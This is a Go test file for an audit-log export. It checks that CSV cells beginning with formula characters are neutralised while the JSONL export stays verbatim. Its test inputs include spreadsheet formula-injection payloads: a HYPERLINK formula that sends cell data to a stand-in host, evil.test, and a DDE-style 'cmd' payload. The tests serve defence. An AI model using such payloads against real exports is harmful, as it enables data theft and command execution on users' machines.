package audit

import (
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"
)

// An attacker chooses file names, User-Agents, HELO names, AUTH identities
// and addresses. In the CSV export none of them may start a cell with a
// character a spreadsheet reads as the start of a formula; JSONL keeps them
// verbatim.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	forEachBackend(t, func(t *testing.T, be backend) {
		loc := tokyo(t)
		day := time.Date(2026, 11, 25, 12, 0, 0, 0, loc)
		l := be.open(t, Options{Location: loc, Now: func() time.Time { return day }})
		mustRecord(t, l, Event{Time: day, Type: TypeDownloadOK, Actor: "web",
			FileName:  `=HYPERLINK("http://evil.test/?"&A1,"invoice.pdf")`,
			UserAgent: "@SUM(1+1)*cmd|' /C calc'!A0",
			Helo:      "+1-2", AuthUser: "-2+3", Sender: "\tpadded@example.com",
			Recipients: []string{"=1+1@example.net", "ok@example.net"},
			Reason:     "\rcarriage", Detail: "plain text - with a dash later"})

		var out strings.Builder
		if err := l.Export(context.Background(), dayRange(t, l, "2026-11-25", "2026-11-25"), &out, FormatCSV, false); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
		if err != nil || len(records) != 2 {
			t.Fatalf("parse CSV: %v, %d records", err, len(records))
		}
		col := func(name string) string { return records[1][slices.Index(csvColumns, name)] }
		tests := []struct{ column, want string }{
			{"file_name", `'=HYPERLINK("http://evil.test/?"&A1,"invoice.pdf")`},
			{"user_agent", "'@SUM(1+1)*cmd|' /C calc'!A0"},
			{"helo", "'+1-2"},
			{"auth_user", "'-2+3"},
			{"sender", "'\tpadded@example.com"},
			{"recipients", "'=1+1@example.net ok@example.net"},
			{"reason", "'\rcarriage"},                    // the CR kept behind the quote
			{"detail", "plain text - with a dash later"}, // only the first character counts
			{"type", string(TypeDownloadOK)},
		}
		for _, tt := range tests {
			if got := col(tt.column); got != tt.want {
				t.Errorf("%s = %q, want %q", tt.column, got, tt.want)
			}
		}
		for i, cell := range records[1] {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s starts a formula: %q", csvColumns[i], cell)
			}
		}

		var jsonl strings.Builder
		if err := l.Export(context.Background(), Query{}, &jsonl, FormatJSONL, false); err != nil {
			t.Fatal(err)
		}
		line := decodeJSONL(t, jsonl.String())[0]
		if line["file_name"] != `=HYPERLINK("http://evil.test/?"&A1,"invoice.pdf")` || line["helo"] != "+1-2" ||
			line["sender"] != "\tpadded@example.com" {
			t.Errorf("JSONL not verbatim: %v", line)
		}
	})
}

func TestNeutraliseCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "=1": "'=1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\tx": "'\tx", "\rx": "'\rx",
		"a=1": "a=1", "'=1": "'=1", "2026-11-25T00:00:00+09:00": "2026-11-25T00:00:00+09:00", "::1": "::1",
	} {
		if got := neutraliseCell(in); got != want {
			t.Errorf("neutraliseCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestExportCSVKeepsCarriageReturns: a CR inside a cell survives the CSV
// export (encoding/csv's UseCRLF dropped one not followed by LF: the
// FuzzExport finding b9119744323b58c9, a detail "0\r" exported as "0"),
// while every record still ends in CRLF.
func TestExportCSVKeepsCarriageReturns(t *testing.T) {
	forEachBackend(t, func(t *testing.T, be backend) {
		day := time.Date(2026, 11, 25, 12, 0, 0, 0, time.UTC)
		l := be.open(t, Options{Location: time.UTC, Now: func() time.Time { return day }})
		mustRecord(t, l, Event{Time: day, Type: TypeDownloadOK, Actor: "web",
			UserAgent: "agent\rhidden", FileName: "a\r\nb.pdf", Detail: "0\r"})
		var out strings.Builder
		if err := l.Export(context.Background(), Query{}, &out, FormatCSV, false); err != nil {
			t.Fatal(err)
		}
		raw := out.String()
		if !strings.HasSuffix(raw, "\r\n") || !strings.HasPrefix(raw, strings.Join(csvColumns, ",")+"\r\n") {
			t.Errorf("records do not end in CRLF:\n%q", raw)
		}
		records, err := csv.NewReader(strings.NewReader(raw)).ReadAll()
		if err != nil || len(records) != 2 {
			t.Fatalf("parse CSV: %v, %d records", err, len(records))
		}
		col := func(name string) string { return records[1][slices.Index(csvColumns, name)] }
		for name, want := range map[string]string{
			"user_agent": "agent\rhidden",
			"detail":     "0\r",
			"file_name":  "a\nb.pdf", // encoding/csv reads CRLF inside a quoted cell as LF
		} {
			if got := col(name); got != want {
				t.Errorf("%s = %q, want %q", name, got, want)
			}
		}
	})
}
